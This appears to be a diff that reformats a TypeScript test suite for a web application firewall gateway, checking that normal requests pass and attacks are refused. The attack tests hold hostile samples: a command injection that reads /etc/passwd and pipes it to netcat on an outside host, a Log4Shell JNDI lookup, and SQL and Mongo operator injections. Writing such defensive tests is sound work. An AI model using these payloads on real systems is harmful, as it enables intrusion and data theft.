@@ -53,31 +53,58 @@ describe("a WAF gateway", function () {
       it(`GET ${path}`, () => passes({ path }));
     }
     for (const method of ["POST", "PUT", "PATCH"]) {
-      it(`${method} with a JSON body`, () => passes({ method, path: "/orders/7", headers: JSON_TYPE, body: '{"name": "Zoë", "n": [1, 2]}' }));
+      it(`${method} with a JSON body`, () =>
+        passes({ method, path: "/orders/7", headers: JSON_TYPE, body: '{"name": "Zoë", "n": [1, 2]}' }));
     }
     it("DELETE", () => passes({ method: "DELETE", path: "/orders/7" }));
     it("OPTIONS", () => passes({ method: "OPTIONS", path: "/orders", headers: ["Origin", "https://shop.example"] }));
     it("HEAD", () => passes({ method: "HEAD", path: "/orders" }));
     it("a JSON type of its own", () =>
-      passes({ method: "POST", path: "/articles", headers: ["Content-Type", "application/vnd.api+json"], body: '{"data":{"type":"articles"}}' }));
+      passes({
+        method: "POST",
+        path: "/articles",
+        headers: ["Content-Type", "application/vnd.api+json"],
+        body: '{"data":{"type":"articles"}}',
+      }));
     it("a form", () =>
-      passes({ method: "POST", path: "/form", headers: ["Content-Type", "application/x-www-form-urlencoded"], body: "name=Ann&city=K%C3%B6ln" }));
+      passes({
+        method: "POST",
+        path: "/form",
+        headers: ["Content-Type", "application/x-www-form-urlencoded"],
+        body: "name=Ann&city=K%C3%B6ln",
+      }));
     it("a chunked body", () =>
-      passes({ method: "POST", path: "/orders", headers: [...JSON_TYPE, "Transfer-Encoding", "chunked"], body: '{"chunked":true}' }));
+      passes({
+        method: "POST",
+        path: "/orders",
+        headers: [...JSON_TYPE, "Transfer-Encoding", "chunked"],
+        body: '{"chunked":true}',
+      }));
     it("140 KB of JSON, more than the engine's default lets in", () =>
-      passes({ method: "POST", path: "/orders", headers: JSON_TYPE, body: JSON.stringify({ text: "lorem ipsum ".repeat(12_000) }) }));
+      passes({
+        method: "POST",
+        path: "/orders",
+        headers: JSON_TYPE,
+        body: JSON.stringify({ text: "lorem ipsum ".repeat(12_000) }),
+      }));
     it("GraphQL with a variable named like a Mongo operator", () =>
       passes({
         method: "POST",
         path: "/graphql",
         headers: JSON_TYPE,
         body: JSON.stringify({
-          query: "query Orders($first: Int!, $after: String) { orders(first: $first, after: $after) { edges { node { id total } } pageInfo { endCursor } } }",
+          query:
+            "query Orders($first: Int!, $after: String) { orders(first: $first, after: $after) { edges { node { id total } } pageInfo { endCursor } } }",
           variables: { first: 10, after: "b3JkZXI6Nw==" },
         }),
       }));
     it("GraphQL with a selection that looks like a command", () =>
-      passes({ method: "POST", path: "/graphql", headers: JSON_TYPE, body: JSON.stringify({ query: '{ node(id: "T3JkZXI6Nw==") { id } }' }) }));
+      passes({
+        method: "POST",
+        path: "/graphql",
+        headers: JSON_TYPE,
+        body: JSON.stringify({ query: '{ node(id: "T3JkZXI6Nw==") { id } }' }),
+      }));
   });
 
   describe("refuses, and the origin does not see", () => {
@@ -98,14 +125,26 @@ describe("a WAF gateway", function () {
     attack("command injection", { path: query("; cat /etc/passwd | nc 192.0.2.1 99") });
     attack("Log4Shell in a header", { path: "/orders", headers: ["X-Api-Version", "${jndi:ldap://192.0.2.1/a}"] });
     attack("SQL injection in a JSON type of its own", post({ data: SQL_INJECTION }, "application/vnd.api+json"));
-    attack("SQL injection in merge-patch", { ...post({ name: SQL_INJECTION }, "application/merge-patch+json"), method: "PATCH" });
+    attack("SQL injection in merge-patch", {
+      ...post({ name: SQL_INJECTION }, "application/merge-patch+json"),
+      method: "PATCH",
+    });
     attack("SQL injection in a GraphQL argument", post({ query: `{ orders(name: "${SQL_INJECTION}") { id } }` }));
     attack("a command in a GraphQL argument", post({ query: '{ node(id: "; cat /etc/passwd") { id } }' }));
     attack("a Mongo operator in a GraphQL argument", post({ query: '{ orders(filter: "{ $where: 1 }") { id } }' }));
-    attack("a Mongo operator that only claims to be GraphQL", post({ query: "{ $where: function() { return true } }" }));
+    attack(
+      "a Mongo operator that only claims to be GraphQL",
+      post({ query: "{ $where: function() { return true } }" }),
+    );
     attack("a Mongo operator outside GraphQL", post({ filter: "[$ne]=1" }));
-    attack("a body of a type that is not inspected", { ...post(SQL_INJECTION), headers: ["Content-Type", "text/plain"] });
-    attack("a header that API Gateway maps to another", { path: "/orders", headers: ["x-amzn-Remapped-Anything", "1"] });
+    attack("a body of a type that is not inspected", {
+      ...post(SQL_INJECTION),
+      headers: ["Content-Type", "text/plain"],
+    });
+    attack("a header that API Gateway maps to another", {
+      path: "/orders",
+      headers: ["x-amzn-Remapped-Anything", "1"],
+    });
   });
 
   it("says which request was refused, and by whom", async () => {
@@ -127,7 +166,15 @@ describe("a WAF gateway", function () {
 
   it("gives its own answers, in JSON, to what it cannot take", async () => {
     const cases: [number, Parameters<GatewayStand["request"]>[0]][] = [
-      [415, { method: "POST", path: "/o", headers: [...JSON_TYPE, "Content-Encoding", "gzip"], body: gzipSync(JSON.stringify({ q: SQL_INJECTION })) }],
+      [
+        415,
+        {
+          method: "POST",
+          path: "/o",
+          headers: [...JSON_TYPE, "Content-Encoding", "gzip"],
+          body: gzipSync(JSON.stringify({ q: SQL_INJECTION })),
+        },
+      ],
       [415, { method: "POST", path: "/o", body: JSON.stringify({ q: SQL_INJECTION }) }],
       [415, { method: "POST", path: "/o", headers: [...JSON_TYPE, "Content-Type", "text/plain"], body: "{}" }],
       [413, { method: "POST", path: "/o", headers: JSON_TYPE, body: `"${"a".repeat(10 * 1024 * 1024)}"` }],
@@ -182,7 +229,13 @@ describe("a WAF gateway", function () {
         "CloudFront-Viewer-Address",
         "X_Origin_Verify",
       ];
-      const headers = [...forged.flatMap((name) => [name, "203.0.113.10"]), "Upgrade", "h2c", "X-Amz-Date", "20261122T000000Z"];
+      const headers = [
+        ...forged.flatMap((name) => [name, "203.0.113.10"]),
+        "Upgrade",
+        "h2c",
+        "X-Amz-Date",
+        "20261122T000000Z",
+      ];
       // Where the rules block, one of them refuses the method override before it could be dropped.
       refusedByGateway(await stand.request({ path: "/", headers: ["X-HTTP-Method-Override", "DELETE"] }));
       const exchange = await passes({ path: "/", headers, host: "detect.shop.example" });
@@ -191,7 +244,11 @@ describe("a WAF gateway", function () {
     });
 
     it("drops the known remapped names even where it only detects", async () => {
-      const exchange = await passes({ path: "/", host: "detect.shop.example", headers: ["x-amzn-remapped-authorization", "x"] });
+      const exchange = await passes({
+        path: "/",
+        host: "detect.shop.example",
+        headers: ["x-amzn-remapped-authorization", "x"],
+      });
       assert.deepEqual(header(exchange, "x-amzn-remapped-authorization"), []);
     });
 
@@ -266,6 +323,9 @@ describe("a WAF gateway", function () {
   it("answers its health check to whoever asks for no external host", async () => {
     const exchange = await stand.request({ path: GATEWAY_HEALTH_PATH, host: STAND.gateway });
     assert.equal(exchange.status, 200);
-    assert.equal((await stand.request({ path: GATEWAY_HEALTH_PATH })).received[0]?.target, `/prod${GATEWAY_HEALTH_PATH}`);
+    assert.equal(
+      (await stand.request({ path: GATEWAY_HEALTH_PATH })).received[0]?.target,
+      `/prod${GATEWAY_HEALTH_PATH}`,
+    );
   });
 });
